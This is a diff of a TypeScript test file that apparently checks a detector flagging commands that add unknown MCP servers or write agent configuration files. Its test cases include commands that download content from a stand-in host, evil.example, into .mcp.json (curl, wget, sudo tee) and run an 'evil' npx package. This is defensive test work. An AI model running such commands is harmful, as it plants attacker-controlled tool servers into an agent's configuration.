@@ -20,7 +20,9 @@ const says = (
 
 const fetched = 'added: unlisted, unpinned';
 const connected = 'added: unlisted';
-const unknown = /^added: unidentified(?:, unlisted)?(?:, unpinned)?$/;
+const unknown = 'added: unidentified';
+/** A program that nobody knows, and the address that it is given. */
+const unknownWithAddress = 'added: unidentified, unlisted';
 const entry = JSON.stringify({ command: 'npx', args: ['-y', evil] });
 
 const shapes: readonly Case[] = [
@@ -72,12 +74,13 @@ const shapes: readonly Case[] = [
     `bash -c "npx -y mcp-remote ${address}"`,
     `pnpm dlx mcp-remote ${address}`,
   ].map((run) => says(run, connected)),
+  says(`supergateway --stdio "npx -y ${evil}"`, 'added: unidentified, unlisted, unpinned'),
+  ...[`sudo mcp-proxy ${address}`, `python -m mcp_proxy ${address}`].map((run) =>
+    says(run, unknownWithAddress),
+  ),
   ...[
-    `supergateway --stdio "npx -y ${evil}"`,
-    `sudo mcp-proxy ${address}`,
     'docker mcp gateway run --catalog ./x.yaml',
     'thv run --from-config x.json',
-    `python -m mcp_proxy ${address}`,
     'npx -y mcp-remote "$URL"',
   ].map((run) => says(run, unknown)),
   {
@@ -108,8 +111,6 @@ const writes: readonly Case[] = [
     'cp not/there.json .mcp.json',
     'curl -s https://evil.example/x > .mcp.json',
     'curl -s https://evil.example/x | sudo tee .mcp.json',
-    'curl -o sub/.mcp.json https://evil.example/x',
-    'wget --output-document=.mcp.json https://evil.example/x',
     'echo "$X" > .claude/settings.json',
     'python gen.py >> .codex/config.toml',
     'envsubst < a.tmpl > ./.mcp.json',
@@ -122,6 +123,10 @@ const writes: readonly Case[] = [
     'tee .mcp.json <<< "$X"',
     'cat <<EOF > .mcp.json\n$X\nEOF',
   ].map((run) => says(run, unknown)),
+  ...[
+    'curl -o sub/.mcp.json https://evil.example/x',
+    'wget --output-document=.mcp.json https://evil.example/x',
+  ].map((run) => says(run, unknownWithAddress)),
   {
     name: 'an edit of such a command',
     base: step('curl -s https://a.example/x > .mcp.json'),
